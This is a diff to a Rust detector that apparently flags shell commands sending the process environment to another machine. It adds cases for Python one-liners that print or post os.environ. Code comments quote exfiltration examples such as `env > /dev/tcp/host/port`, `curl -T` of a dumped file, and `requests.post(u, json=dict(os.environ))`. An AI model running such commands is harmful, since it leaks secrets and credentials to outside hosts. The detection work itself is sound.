@@ -3,7 +3,7 @@
 //! or substituted into a network client, or redirected to `/dev/tcp`.
 
 use super::{Call, Hit};
-use crate::shell::{SimpleCommand, Stdin};
+use crate::shell::{Analysis, SimpleCommand, Stdin};
 
 /// Programs that send what they are given to another machine.
 const NETWORK_CLIENTS: &[&str] = &[
@@ -14,6 +14,10 @@ const NETWORK_CLIENTS: &[&str] = &[
 pub(super) fn judge(call: &Call) -> Option<Hit> {
     let name = call.name?;
     let command = call.command;
+    // `python3 -c 'requests.post(u, json=dict(os.environ))'`: the code sends it itself.
+    if call.analysis.environment_dumps.iter().any(|d| d.command == call.index && d.sent) {
+        return Some(Hit::new("exfiltration.environment", MESSAGE));
+    }
     // `env > /dev/tcp/host/port`: bash opens the connection itself.
     let to_socket = command
         .redirects
@@ -32,13 +36,13 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
         return None;
     }
     let commands = &call.analysis.commands;
-    let piped = carries_environment(commands, command);
+    let piped = carries_environment(call.analysis, command);
     let substituted = call.args().iter().any(|arg| arg.dynamic && substitutes_environment(&arg.raw));
     // `env > /tmp/e; curl -T /tmp/e …`: a file the line filled with the environment.
     let uploaded = || {
         let files: Vec<&str> = commands
             .iter()
-            .filter(|earlier| dumps_environment(earlier) || carries_environment(commands, earlier))
+            .filter(|earlier| dumps_environment(earlier) || carries_environment(call.analysis, earlier))
             .flat_map(|earlier| {
                 let teed = if earlier.name() == Some("tee") { earlier.args() } else { &[] };
                 earlier.redirects.iter().map(|r| &r.target).chain(teed).map(|w| w.text.as_str())
@@ -60,12 +64,14 @@ const MAX_FILTERS: usize = 8;
 
 /// Whether `command` reads a pipe that carries the environment: from a dump, through any
 /// filters (`base64`, `gzip`, `xxd`, `tee`) in between.
-fn carries_environment(commands: &[SimpleCommand], command: &SimpleCommand) -> bool {
+fn carries_environment(analysis: &Analysis, command: &SimpleCommand) -> bool {
     let mut stdin = &command.stdin;
     for _ in 0..MAX_FILTERS {
         let Stdin::Pipe { from: Some(from) } = stdin else { return false };
-        let Some(writer) = commands.get(*from) else { return false };
-        if dumps_environment(writer) {
+        let Some(writer) = analysis.commands.get(*from) else { return false };
+        // An interpreter that prints the environment (`python3 -c 'print(dict(os.environ))'`).
+        let printed = analysis.environment_dumps.iter().any(|d| d.command == *from);
+        if dumps_environment(writer) || printed {
             return true;
         }
         stdin = &writer.stdin;
